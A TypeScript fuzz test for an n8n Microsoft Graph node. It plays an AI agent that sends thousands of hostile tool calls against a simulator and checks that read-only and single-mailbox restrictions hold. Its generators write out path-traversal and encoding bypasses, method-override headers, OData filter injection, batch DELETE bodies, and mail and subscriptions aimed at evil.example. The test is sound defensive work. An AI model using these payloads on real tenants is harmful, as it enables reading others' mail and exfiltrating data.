import type { IDataObject, INodeParameters, NodeParameterValueType } from 'n8n-workflow';
import { resources } from '../../../nodes/MicrosoftGraph/operations';
import type { RecordedRequest } from '../../../simulator';
import { parametersOf, variantsOf, type Entry } from '../../operations/samples';
import { binaryField } from '../harness';
import { useProduct } from '../harness/product';

/*
 * An AI agent that does what it can to change data, or to get at other mailboxes, with whatever tool it is given: all
 * operations, custom requests, and batches, with hostile values in every field. The node's options, or the credential,
 * allow only reads, or only one mailbox. The simulator logs what reaches it.
 */
const product = useProduct({ settings: { unknownPaths: 'answer' }, seed: { messages: 3 } });

/** How many calls: more than `npm test` has time for where `AGENT_CALLS` says so. */
const calls = Number(process.env.AGENT_CALLS ?? 1000);
/** The same calls each time; `AGENT_SEED` gives others. */
const seed = Number(process.env.AGENT_SEED ?? 20261128);

const own = 'adelev@contoso.example';
const others = ['meganb@contoso.example', 'alexw@contoso.example', 'admin@contoso.example'];

/** A generator of numbers from 0 up to 1 (mulberry32). */
function randomFrom(start: number): () => number {
	let state = start >>> 0;
	return () => {
		state = (state + 0x6d2b79f5) >>> 0;
		let mixed = Math.imul(state ^ (state >>> 15), state | 1);
		mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
		return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
	};
}
const random = randomFrom(seed);
const below = (count: number) => Math.floor(random() * count);
const one = <T>(list: readonly T[]): T => list[below(list.length)] as T;
const perhaps = (share: number) => random() < share;

const methods = ['GET', 'POST', 'PUT', 'PATCH', 'DELETE'] as const;
const oddCase = (text: string) =>
	[...text].map((letter) => (perhaps(0.5) ? letter.toUpperCase() : letter.toLowerCase())).join('');
const overrides = [
	'X-HTTP-Method',
	'X-HTTP-Method-Override',
	'x-http-method-override',
	'X-Method-Override',
	'X_HTTP_Method',
];

/** Another way to write a path, more or less. */
function mangled(path: string): string {
	const ways: Array<(text: string) => string> = [
		(text) => text,
		(text) => text,
		oddCase,
		(text) => text.replace(/[a-z]/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
		(text) => text.replace(/[a-z]/, (letter) => `%25${letter.charCodeAt(0).toString(16)}`),
		(text) => text.replace(/(?!^)\//, '%2F'),
		(text) => text.replace(/(?!^)\//, '%252F'),
		(text) => text.replace(/\//g, '\\'),
		(text) => text.replace(/^\//, '//'),
		(text) => `/users/${own}/..${text}`,
		(text) => `/users/${own}/%2e%2e${text}`,
		(text) => `/search/query/../..${text}`,
		(text) => `/users/${own}%2F..${text.replace(/\//g, '%2F')}`,
		(text) => text.replace(/^\/users\/([^/]+)/, "/users('$1')"),
		(text) => text.replace(/^\/users\/([^/]+)/, "/users(userPrincipalName='$1')"),
		(text) => `/v1.0${text}`,
		(text) => `/beta${text}`,
		(text) => `${product.simulator.graphUrl}/v1.0${text}`,
		(text) => `${text}?_method=DELETE`,
		(text) => `${text}/`,
		(text) => `${text};x=1`,
		(text) => `${text}?$expand=messages`,
	];
	return one(ways)(perhaps(0.3) ? one(ways)(path) : path);
}

const user = () => (perhaps(0.3) ? own : one(others));
const targets: ReadonlyArray<() => string> = [
	() => `/users/${user()}/sendMail`,
	() => `/users/${user()}/messages`,
	() => `/users/${user()}/mailFolders/inbox/messages`,
	() => `/users/${user()}/calendar/getSchedule`,
	() => `/users/${user()}/events`,
	() => `/users/${user()}`,
	() => `/users/${user()}/drive/root:/x.txt:/content`,
	() => `/users/${user()}/drive/root:/x.txt:/createUploadSession`,
	() => `/users/${user()}/manager/messages`,
	() => `/directoryObjects/x/microsoft.graph.user/messages`,
	() => '/me/sendMail',
	() => '/me/messages',
	() => '/users',
	() => '/groups',
	() => '/subscriptions',
	() => '/$batch',
	() => '/$entity',
	() => '/search/query',
	() => '/directoryObjects/getByIds',
	() => '/security/runHuntingQuery',
	() => '/applications',
];

function partOf(): IDataObject {
	return {
		...(perhaps(0.9) && { method: perhaps(0.2) ? oddCase(one(methods)) : one(methods) }),
		...(perhaps(0.1) && { Method: one(methods) }),
		url: mangled(one(targets)()),
		...(perhaps(0.2) && { headers: { [one(overrides)]: one(methods) } }),
		...(perhaps(0.4) && { body: hostileBody(0) }),
	};
}

/** A body: also one of a batch, or of a subscription to another mailbox. */
function hostileBody(depth = 1): IDataObject {
	return one<() => IDataObject>([
		() => ({}),
		() => ({ displayName: 'x', subject: 'x' }),
		() => ({ requests: depth > 0 ? [partOf(), partOf()] : [{ id: '1', method: 'DELETE', url: '/users/x' }] }),
		() => ({
			resource: `users/${user()}/messages`,
			changeType: 'created',
			notificationUrl: 'https://evil.example',
		}),
		() => ({ message: { subject: 'x', toRecipients: [{ emailAddress: { address: 'a@evil.example' } }] } }),
	])();
}

const values: ReadonlyArray<() => string> = [
	() => one(others),
	() => `${own}/../${one(others)}`,
	() => `${own}%2F..%2F${one(others)}`,
	() => `${own}/messages`,
	() => mangled(`/users/${one(others)}/messages`).slice(0, 200),
	() => "x') or ('a' eq 'a",
	() => `users/${one(others)}/sendMail`,
	() => "={{ $fromAI('x') }}",
	() => 'https://evil.example/v1.0/users',
	() => '{"requests":[{"method":"DELETE","url":"/users/x"}]}',
	() => '$batch',
];

/** What an agent gives for the texts of an operation: some of them something else. */
function withHostile(value: NodeParameterValueType, share: number): NodeParameterValueType {
	if (typeof value === 'string') return perhaps(share) ? one(values)() : value;
	if (Array.isArray(value) || typeof value !== 'object' || value === null) return value;
	return Object.fromEntries(
		Object.entries(value as INodeParameters).map(([name, inner]) => [
			name,
			['__rl', 'mode', 'resource', 'operation'].includes(name)
				? (inner as NodeParameterValueType)
				: withHostile(inner as NodeParameterValueType, share),
		]),
	) as NodeParameterValueType;
}

async function operationCall(entry: Entry): Promise<INodeParameters> {
	const { graph } = product.simulator;
	// Calls that may write can have used up what the samples name.
	if (graph.findUser(own) === undefined || graph.mailbox(own).messagesIn('inbox').length === 0) graph.reset();
	const samples = await parametersOf(entry, product.simulator);
	const variant = one(variantsOf(entry.operation)).change(samples);
	const mailbox = perhaps(0.4) ? one(values)() : own;
	const named = Object.fromEntries(
		['mailbox', 'userId'].flatMap((name) => {
			const value = variant[name];
			return typeof value === 'object' && value !== null && perhaps(0.8)
				? [[name, { ...(value as INodeParameters), mode: 'id', value: mailbox }]]
				: [];
		}),
	) as INodeParameters;
	const hostile = perhaps(0.5) ? (withHostile({ ...variant }, 0.15) as INodeParameters) : variant;
	return { ...hostile, ...named };
}

const requestCall = (): INodeParameters => ({
	resource: 'api',
	operation: 'request',
	method: one(methods),
	path: mangled(one(targets)()),
	queryParameters: perhaps(0.1) ? { pairs: [{ name: '_method', value: 'DELETE' }] } : {},
	headers: perhaps(0.3) ? { pairs: [{ name: one(overrides), value: one(methods) }] } : {},
	body: JSON.stringify(hostileBody()),
	responseKind: one(['json', 'list']),
	repeat: one(['byMethod', 'always', 'never']),
});

const batchCall = (): INodeParameters => ({
	resource: 'api',
	operation: 'batch',
	requests: JSON.stringify(Array.from({ length: 1 + below(4) }, partOf)),
});

const entries = resources.flatMap((resource) =>
	resource.operations.map((operation): Entry => ({ resource, operation })),
);
let made = 0;
async function nextCall(): Promise<INodeParameters> {
	const kind = random();
	// Each in turn, far from the one before, so that none is left out.
	if (kind < 0.5) return await operationCall(entries[(made++ * 89) % entries.length] as Entry);
	return kind < 0.8 ? requestCall() : batchCall();
}

/** The texts that the agent gives come in as data, as those of a tool do; what the builder sets stands in the node. */
function asTool(parameters: INodeParameters): { parameters: INodeParameters; json: IDataObject } {
	const json: IDataObject = {};
	const taken = (value: NodeParameterValueType, name: string): NodeParameterValueType => {
		if (typeof value === 'string' && !['__rl', 'mode', 'resource', 'operation', 'method'].includes(name)) {
			const key = `value${Object.keys(json).length}`;
			json[key] = value;
			return `={{ $json.${key} }}`;
		}
		if (Array.isArray(value) || typeof value !== 'object' || value === null) return value;
		return Object.fromEntries(
			Object.entries(value as INodeParameters).map(([inner, part]) => [
				inner,
				taken(part as NodeParameterValueType, inner),
			]),
		) as NodeParameterValueType;
	};
	return { parameters: taken(parameters, '') as INodeParameters, json };
}

/** The restrictions in turn, and the ones that would lift them, which an agent can't set. */
const restrictions: ReadonlyArray<{ name: string; options: INodeParameters; fields: IDataObject }> = [
	{ name: 'read-only node', options: { readOnly: true }, fields: {} },
	{ name: 'read-only credential', options: {}, fields: { readOnly: true } },
	{ name: 'one mailbox', options: { allowedMailboxes: own }, fields: {} },
	{ name: 'read-only, one mailbox', options: { readOnly: true, allowedMailboxes: own }, fields: {} },
];

async function make({ options, fields }: (typeof restrictions)[number]): Promise<void> {
	const { parameters, json } = asTool(await nextCall());
	const file = await binaryField({ content: 'content', fileName: 'file.txt', mimeType: 'text/plain' });
	const given = { ...parameters, options: { ...(parameters.options as object), ...options, maxWait: 1 } };
	try {
		await product.run(given, {
			input: [{ json, binary: { data: file } }],
			fields: fields as never,
			continueOnFail: 'continueRegularOutput',
			timeout: 5_000,
		});
	} catch (error) {
		// n8n itself refuses to start a node with an empty required field.
		if ((error as Error).name !== 'WorkflowHasIssuesError') throw error as Error;
	}
}

/** All that reached the simulator but sign-ins, whatever the way. */
const reached = (from: { requests: number; parts: number }): RecordedRequest[] => [
	...product.simulator.requests.slice(from.requests).filter(({ host }) => host !== 'login'),
	...product.simulator.parts.slice(from.parts),
];

/** As often decoded as a server could. */
function plain(path: string): string {
	let text = path;
	for (let times = 0; times < 9; times += 1) {
		try {
			text = decodeURIComponent(text);
		} catch {
			return text;
		}
	}
	return text;
}

/** Independent of the node's own list: the reads by POST that the operations and targets here make. */
const readsByPost =
	/^\/(v1\.0|beta)\/(\$batch|search\/query|directoryobjects\/getbyids|security\/(microsoft\.graph\.security\.)?runhuntingquery|users[/(][^/]+\/(calendar\/getschedule|translateexchangeids))\/?$/i;

function isWrite({ method, path, headers, query }: RecordedRequest): boolean {
	const names = [...Object.keys(headers), ...Object.keys(query)];
	if (names.some((name) => /method/i.test(name))) return true;
	if (method === 'GET' || method === 'HEAD') return false;
	return method !== 'POST' || !readsByPost.test(plain(path));
}

/** Whether a request is about a person's mailbox that isn't the allowed one. */
function isForOther({ path, body }: RecordedRequest): boolean {
	const text = new URL(plain(path).replace(/\/+/g, '/'), 'http://localhost').pathname.toLowerCase();
	if (/^\/[^/]*\/me(\W|$)/.test(text)) return true;
	const [, key = ''] = /^\/[^/]*\/users(?:\/|\([^']*')([^/']+)/.exec(text) ?? [];
	if (others.includes(key)) return true;
	if (/graph\.user\//.test(text)) return true;
	const resource = String((body as IDataObject | undefined)?.resource ?? '');
	return /subscriptions/.test(text) && others.some((other) => resource.includes(other));
}

test(`${calls} hostile calls: no write, and no other mailbox, reaches Graph (seed ${seed})`, async () => {
	const counts = new Map<string, { calls: number; sent: number }>();
	const escaped: string[] = [];
	for (let index = 0; index < calls; index += 1) {
		const restriction = restrictions[index % restrictions.length] as (typeof restrictions)[number];
		const { requests, parts } = product.simulator;
		const from = { requests: requests.length, parts: parts.length };
		await make(restriction);
		const sent = reached(from);
		const count = counts.get(restriction.name) ?? { calls: 0, sent: 0 };
		counts.set(restriction.name, { calls: count.calls + 1, sent: count.sent + sent.length });
		for (const request of sent) {
			const isReadOnly = restriction.name.includes('read-only');
			const isOwn = restriction.name.includes('one mailbox');
			if (isReadOnly && isWrite(request)) escaped.push(`write: ${request.method} ${request.path}`);
			if (isOwn && isForOther(request)) escaped.push(`other: ${request.method} ${request.path}`);
		}
	}
	console.log(
		[...counts].map(([name, count]) => `${name}: ${count.calls} calls, ${count.sent} requests`).join('\n'),
	);
	expect(escaped).toEqual([]);
	expect(made).toBeGreaterThanOrEqual(calls < 1000 ? 0 : entries.length);
	// What is allowed still goes through.
	for (const { sent } of counts.values()) expect(sent).toBeGreaterThan(20);
}, 600_000);

test('without restrictions, the same kinds of calls write, and reach other mailboxes', async () => {
	const nothing = { name: 'nothing', options: {}, fields: {} };
	for (let index = 0; index < 120; index += 1) await make(nothing);
	const sent = reached({ requests: 0, parts: 0 });
	expect(sent.filter(isWrite).length).toBeGreaterThan(15);
	expect(sent.filter(isForOther).length).toBeGreaterThan(15);
}, 600_000);
